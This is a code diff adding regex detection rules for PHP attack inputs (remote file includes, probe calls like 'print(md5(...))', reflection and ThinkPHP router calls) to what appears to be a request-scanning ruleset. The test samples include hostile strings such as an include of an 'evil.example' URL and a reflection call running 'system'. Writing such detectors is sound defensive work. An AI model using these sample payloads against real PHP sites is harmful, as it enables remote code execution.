@@ -41,4 +41,16 @@ patterns! {
         literals [":{", ":\""], r#"(?:\b[oc]:\+?\d+:"[\w\\]+":\d+:\{|(?:^|[^a-z0-9])a:\d+:\{[isadbo]:|\b[oc]:\d+:"[^"]+":\d+:)"#, ["O:8:\"stdClass\":1:{s:1:\"a\";i:2;}"], ["a:1, b:2"];
     UPLOAD: "php-session-file", STRONG, "a file named like a session of PHP",
         literals ["sess_"], r"^(?:[^\s]*[/\\])?sess_[a-z0-9,-]{16,}$", ["sess_d8ew88tqmabdcokhumchy8htqm"], ["sess_short"];
+    INCLUDE: "php-include", STRONG, "a file is included or removed by a call",
+        literals ["include(", "include (", "include '", "include \"", "require '", "require \"", "require(", "require (", "unlink(", "unlink (", "rmdir(", "chmod(", "chown("],
+        r#"\b(?:(?:include|require)(?:_once)?\s+['"](?:https?|ftp|php|data):|(?:include|require)\s*\(\s*(?:['"][^'"\r\n]*(?:://|\.php|/)|\$)|(?:unlink|rmdir|chmod|chown)\s*\(\s*['"$])"#,
+        ["include('http://evil.example/x')", "require($x)", "unlink('x')"], ["we include (for free) it", "require('lodash')"];
+    PRINTED: "php-printed-call", STRONG, "the result of a function is printed, to see whether code runs",
+        literals ["print", "echo", "die", "exit"],
+        r"\b(?:print|echo|die|exit|printf)\s*\(?\s*(?:md5|sha1|crc32|phpversion|php_uname|base64_decode|system|passthru|shell_exec|get_current_user|getcwd|chr|strrev|str_rot13|file_get_contents|`)\s*\(",
+        ["print(md5(31337));", "echo md5(1);", "die(sha1('a'))"], ["print the md5 (new)", "echo chromium(3)"];
+    REFLECTION: "php-reflection", STRONG, "a function reached by reflection, or by the router of a framework",
+        literals ["reflection", "->invoke", "\\think\\", "invokefunction"],
+        r"(?:\bnew\s+reflection(?:function|class|method|object)\b|->invoke(?:args)?\s*\(|\\think\\(?:app|request|container|module|template|view|config)\b|\binvokefunction\b)",
+        ["(new ReflectionFunction('system'))->invoke('id')", "s=/Index/\\think\\app/x"], ["a new reflection on life", "I think\\app"];
 }
